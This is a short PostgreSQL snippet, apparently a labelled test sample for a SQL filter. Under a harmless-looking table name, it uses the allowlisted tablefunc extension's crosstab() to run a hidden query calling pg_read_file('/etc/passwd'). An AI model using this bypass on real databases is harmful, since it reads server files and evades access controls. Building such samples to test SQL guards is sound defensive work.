-- class: dynamic-sql
-- Installs the allowlisted tablefunc extension and uses crosstab() to execute a query string that reads the server's files.
CREATE EXTENSION IF NOT EXISTS tablefunc;

CREATE TABLE monthly_revenue AS
SELECT * FROM crosstab(
  $q$ SELECT 'x'::text, 'k'::text, pg_read_file('/etc/passwd') $q$
) AS ct(row_name text, k text);
